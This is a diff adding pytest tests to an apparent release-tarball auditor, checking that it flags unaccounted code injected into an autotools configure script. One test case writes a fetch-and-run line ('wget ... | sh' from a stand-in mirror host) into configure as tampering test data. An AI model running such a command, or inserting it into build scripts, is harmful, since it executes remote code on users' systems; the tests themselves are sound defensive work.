@@ -241,3 +241,42 @@ def test_configure_command_block_no_macro_declares_is_high(
     # the genuine configure has none
     _, clean = audit_json(tarball, repo)
     assert not [f for f in clean["findings"] if f["rule_id"] == "configure-unaccounted-command"]
+
+
+def test_genuine_configure_is_accounted_for_word_by_word(
+    autotools_release: tuple[Path, Path],
+) -> None:
+    """configure written by the installed autoconf from our inputs: every word known."""
+    repo, tarball = autotools_release
+    _, report = audit_json(tarball, repo)
+    assert not [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]
+
+
+@pytest.mark.parametrize(
+    ("line", "severity", "word"),
+    [
+        ("wget -qO- https://mirror.example/fixup | sh", "high", "qO"),
+        ('greet_tuning_knob="zzyzx"', "medium", "zzyzx"),
+    ],
+)
+def test_code_written_into_configure_is_unaccounted(
+    autotools_release: tuple[Path, Path], tmp_path: Path, line: str, severity: str, word: str
+) -> None:
+    repo, tarball = autotools_release
+    configure = _member(tarball, "configure").decode()
+    anchor = "ac_config_files="
+    assert anchor in configure
+    tampered = _retar(
+        tarball,
+        tmp_path / tarball.name,
+        {"configure": configure.replace(anchor, line + "\n" + anchor, 1).encode()},
+    )
+    _, report = audit_json(tampered, repo)
+    found = [f for f in report["findings"] if f["rule_id"] == "configure-unaccounted-code"]
+    assert len(found) == 1 and found[0]["path"] == "configure"
+    assert found[0]["severity"] == severity
+    evidence = found[0]["evidence"][0]
+    assert evidence["text"].startswith(line[:40]) and word in evidence["text"]
+    assert configure.split("\n")[evidence["line"] - 1] != line  # the line number is the new one
+    tampered_lines = configure.replace(anchor, line + "\n" + anchor, 1).split("\n")
+    assert tampered_lines[evidence["line"] - 1] == line
